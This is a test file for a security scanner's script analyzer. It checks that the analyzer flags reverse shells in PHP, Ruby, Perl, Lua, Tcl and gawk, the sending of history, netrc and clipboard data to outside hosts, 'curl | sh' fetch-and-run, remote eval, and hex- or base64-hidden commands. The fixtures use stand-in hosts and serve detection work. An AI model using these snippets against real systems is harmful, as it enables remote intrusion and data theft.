import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { scriptAnalyzer } from '../../../src/scan/analyzers/script.ts';
import { collector, ofKind, type Collected } from './shell-collect.ts';

let run: (text: string) => Collected;
/** Facts of a kind without their line, which these cases do not pin. */
const facts = (c: Collected, kind: Parameters<typeof ofKind>[1]) => ofKind(c, kind).map(({ line: _l, ...rest }) => rest);
before(async () => {
  run = await collector(scriptAnalyzer);
});

describe('script analyzer: sockets', () => {
  const interactive: [string, string, number][] = [
    ['php', "$h = '192.0.2.8';\n$c = fsockopen($h, 4711);\n$p = proc_open('/bin/sh -i', array(0=>$c, 1=>$c, 2=>$c), $pipes);", 4711],
    ['ruby', "s = TCPSocket.open('192.0.2.8', 4711)\npid = spawn('/bin/sh', [:in, :out, :err] => s)", 4711],
    ['perl', 'socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4711,inet_aton("192.0.2.8")));open(STDIN,">&S");exec("/bin/sh -i");', 4711],
    ['lua', 'local c = socket.tcp()\nc:connect("192.0.2.8", 4711)\nlocal line = c:receive()\nlocal h = io.popen(line)', 4711],
    ['tcl', 'set s [socket 192.0.2.8 4711]\nwhile {[gets $s c] >= 0} { catch {exec /bin/sh -c $c} r; puts $s $r }', 4711],
    ['gawk', 'BEGIN { s = "/inet/tcp/0/192.0.2.8/4711"; while ((s |& getline c) > 0) { while ((c | getline l) > 0) print l |& s; close(c) } }', 4711],
  ];
  for (const [lang, code, port] of interactive) {
    it(`${lang}: a socket whose other end drives a shell is interactive`, () => {
      assert.deepEqual(facts(run(code), 'socket'), [{ protocol: 'tcp', host: '192.0.2.8', port, interactive: true }]);
    });
  }

  it('a socket without any shell or command run is not interactive', () => {
    const c = run("require 'socket'\nr = TCPSocket.new('localhost', 6379)\nr.puts 'PING'\nputs r.gets");
    assert.deepEqual(facts(c, 'socket'), [{ protocol: 'tcp', host: 'localhost', port: 6379 }]);
  });

  it('asking for the host name is no socket', () => {
    assert.deepEqual(facts(run("require 'socket'\nputs Socket.gethostname"), 'socket'), []);
  });

  it('Perl IO::Socket::INET with host and port apart, sending a history file', () => {
    const c = run('my $f = "$ENV{HOME}/.bash_history";\nopen(my $fh, "<", $f);\nmy $s = IO::Socket::INET->new(PeerHost => "192.0.2.9", PeerPort => 7070, Proto => "tcp");\nprint $s $_ while <$fh>;');
    assert.deepEqual(facts(c, 'file-read'), [{ path: '~/.bash_history' }]);
    const net = facts(c, 'network');
    assert.equal(net.length, 1);
    assert.deepEqual(net[0]!.dataSources, [{ kind: 'file', path: '~/.bash_history' }]);
    assert.equal(net[0]!.host, '192.0.2.9');
  });
});

describe('script analyzer: commands go to the shell analyzer', () => {
  const handed: [string, string, string][] = [
    ['perl system', 'system("curl -s https://x.test/a | sh");', 'curl -s https://x.test/a | sh'],
    ['ruby backticks', 'clip = `pbpaste`', 'pbpaste'],
    ['perl qx', 'my $u = qx{id -un};', 'id -un'],
    ['lua os.execute', 'os.execute("rm -rf /tmp/cache")', 'rm -rf /tmp/cache'],
    ['php shell_exec', "$o = shell_exec('uname -a');", 'uname -a'],
    ['tcl exec', 'set r [exec ls -la /tmp]', 'ls -la /tmp'],
  ];
  for (const [name, code, command] of handed) {
    it(name, () => {
      assert.deepEqual(run(code).nested.map((n) => [n.text.trim(), n.lang]), [[command, 'shell']]);
    });
  }

  it('a command named in a comment is not handed on', () => {
    assert.deepEqual(run('# system("curl https://x.test | sh")\nprint "ok\\n";').nested, []);
  });
});

describe('script analyzer: network and remote code', () => {
  it('fetched code that is evaluated is download-exec', () => {
    const c = run("use LWP::Simple;\nmy $code = get('https://x.test/p.pl');\neval $code;");
    assert.deepEqual(facts(c, 'download-exec').map((f) => f.host), ['x.test']);
    assert.deepEqual(facts(c, 'exec-dynamic').map((f) => f.input), ['remote']);
  });

  it('a fetch whose body is only printed is no download-exec', () => {
    const c = run("use LWP::Simple;\nmy $page = get('https://x.test/status');\nprint $page;");
    assert.deepEqual(facts(c, 'download-exec'), []);
    assert.deepEqual(facts(c, 'network').map((f) => f.sendsData), [false]);
  });

  it('a PHP include of a URL runs remote code', () => {
    assert.deepEqual(facts(run("<?php include 'http://x.test/shell.txt';"), 'download-exec').map((f) => f.via), ['include']);
  });

  it('a POST carries the clipboard the script read', () => {
    const c = run("clip = `pbpaste`\nNet::HTTP.post_form(URI('https://x.test/save'), 'text' => clip)");
    assert.deepEqual(facts(c, 'network').map((f) => [f.host, f.sendsData, f.dataSources]), [['x.test', true, [{ kind: 'clipboard' }]]]);
  });

  it('a home secret read in Ruby and posted', () => {
    const c = run("body = File.read(File.join(Dir.home, '.netrc'))\nNet::HTTP.post(URI('https://x.test/u'), body)");
    assert.deepEqual(facts(c, 'file-read'), [{ path: '~/.netrc' }]);
    assert.deepEqual(facts(c, 'network')[0]!.dataSources, [{ kind: 'file', path: '~/.netrc' }]);
  });

  it('a home path only printed in a message is no read', () => {
    assert.deepEqual(facts(run('open(my $fh, "<", "data.csv");\nprint "see ~/.ssh/config for hosts\\n";'), 'file-read'), []);
  });

  it('an API call with a declared key sends nothing secret', () => {
    const c = run("<?php\n$ch = curl_init('https://api.example.com/v1/weather?q=Berlin');\necho curl_exec($ch);");
    assert.deepEqual(facts(c, 'network').map((f) => [f.host, f.sendsData, f.dataSources]), [['api.example.com', false, undefined]]);
  });
});

describe('script analyzer: literals the language decodes', () => {
  const hex = Buffer.from('curl -s https://x.test/f.sh | sh').toString('hex');
  const b64 = Buffer.from('rm -rf ~/projects/old-build').toString('base64');

  it('Perl pack("H*") is a hex decode whose text goes to the shell as decoded', () => {
    const c = run(`print pack("H*", "${hex}");`);
    assert.deepEqual(facts(c, 'decode').map((f) => [f.encoding, f.decoded, f.executed]), [['hex', 'curl -s https://x.test/f.sh | sh', false]]);
    assert.deepEqual(c.nested, [{ text: 'curl -s https://x.test/f.sh | sh', lang: 'shell', line: 1, origin: 'decoded' }]);
  });

  it('Ruby pack and PHP base64_decode run by eval/system are executed', () => {
    assert.deepEqual(facts(run(`system(["${hex}"].pack("H*"))`), 'decode').map((f) => f.executed), [true]);
    assert.deepEqual(facts(run(`<?php eval(base64_decode('${b64}'));`), 'decode').map((f) => [f.encoding, f.executed]), [['base64', true]]);
  });

  it('a short hex constant is no payload', () => {
    assert.deepEqual(facts(run('my $magic = pack("H*", "cafebabe");'), 'decode'), []);
  });
});

describe('script analyzer: robustness', () => {
  it('never throws on odd input', () => {
    for (const text of ['', '"', "'''", '`', 'qx{', 'fsockopen(', '[socket', '/inet/tcp/0//', 'eval', '\u0000\uffff', 'x'.repeat(10_000)]) {
      assert.doesNotThrow(() => run(text));
    }
  });
});
